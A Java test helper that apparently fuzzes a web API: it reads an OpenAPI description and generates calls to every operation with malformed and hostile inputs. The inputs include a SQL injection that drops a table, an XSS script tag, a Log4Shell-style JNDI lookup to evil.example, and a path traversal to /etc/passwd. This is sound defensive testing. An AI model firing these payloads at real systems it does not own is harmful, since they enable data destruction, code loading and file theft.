package dev.kontor.app.web;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/** Makes hostile calls of every operation that a description of the API names. */
record ApiScan(JsonNode description) {

  private static final JsonMapper JSON = JsonMapper.shared();

  /** What people, programs and attackers put into fields. */
  private static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "-1",
          "0",
          "99999999999999999999999999",
          "1e400",
          "null",
          "'; drop table message; --",
          "\" or \"\"=\"",
          "<script>alert(1)</script>",
          "${jndi:ldap://evil.example/a}",
          "../../etc/passwd",
          "%s%n%x",
          "\u0000",
          "a\u0000b",
          "\ud800",
          "\u202eexe\uD83D\uDE00ÄÖ",
          "x".repeat(5000));

  private static final List<String> BODIES =
      List.of("", "{", "[]", "null", "7", "\"x\"", "{\"unknown\":1}", "[".repeat(5000));

  /** One call. */
  record Call(String method, String path, String body) {}

  List<Call> calls() {
    List<Call> calls = new ArrayList<>();
    for (Map.Entry<String, JsonNode> path : description.path("paths").properties()) {
      for (Map.Entry<String, JsonNode> operation : path.getValue().properties()) {
        String method = operation.getKey().toUpperCase(java.util.Locale.ROOT);
        calls.addAll(ofParameters(method, path.getKey(), operation.getValue()));
        calls.addAll(ofBody(method, path.getKey(), operation.getValue()));
      }
    }
    return calls;
  }

  private static List<Call> ofParameters(String method, String path, JsonNode operation) {
    List<Call> calls = new ArrayList<>();
    for (JsonNode parameter : operation.path("parameters")) {
      String name = parameter.path("name").asString();
      for (String text : TEXTS) {
        String value = URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
        boolean inPath = parameter.path("in").asString().equals("path");
        String filled = inPath ? path.replace("{" + name + "}", value) : path;
        String query = inPath ? "" : "?" + name + "=" + value;
        calls.add(new Call(method, filled.replaceAll("\\{[^}]*}", "4711") + query, "{}"));
      }
    }
    return calls;
  }

  private List<Call> ofBody(String method, String path, JsonNode operation) {
    JsonNode schema = schema(operation.at("/requestBody/content/application~1json/schema"));
    String filled = path.replaceAll("\\{[^}]*}", "4711");
    List<Call> calls = new ArrayList<>();
    if (!schema.isMissingNode()) {
      BODIES.forEach(body -> calls.add(new Call(method, filled, body)));
      for (Map.Entry<String, JsonNode> field : schema.path("properties").properties()) {
        for (JsonNode value : values()) {
          ObjectNode body = JSON.createObjectNode();
          schema.path("properties").properties().forEach(f -> usual(body, f));
          body.set(field.getKey(), value);
          calls.add(new Call(method, filled, body.toString()));
        }
      }
    }
    return calls;
  }

  private static void usual(ObjectNode body, Map.Entry<String, JsonNode> field) {
    switch (field.getValue().path("type").asString("")) {
      case "array" -> body.putArray(field.getKey());
      case "integer" -> body.put(field.getKey(), 4711);
      case "boolean" -> body.put(field.getKey(), false);
      default -> body.put(field.getKey(), "usual");
    }
  }

  private static List<JsonNode> values() {
    List<JsonNode> values = new ArrayList<>();
    TEXTS.forEach(text -> values.add(JsonNodeFactory.instance.stringNode(text)));
    values.add(JSON.createArrayNode().add("' or 1=1"));
    values.add(JSON.createArrayNode().add("a\u0000b"));
    values.add(JSON.createArrayNode().addNull());
    values.add(JSON.createArrayNode().add(-1).add(Long.MAX_VALUE));
    values.add(JSON.createObjectNode().put("a", 1));
    values.add(JsonNodeFactory.instance.numberNode(new java.math.BigDecimal("1e400")));
    values.add(JsonNodeFactory.instance.numberNode(-1));
    values.add(JsonNodeFactory.instance.booleanNode(true));
    values.add(JsonNodeFactory.instance.nullNode());
    return values;
  }

  JsonNode schema(JsonNode node) {
    String reference = node.path("$ref").asString("");
    return reference.isEmpty() ? node : description.at(reference.substring(1));
  }
}
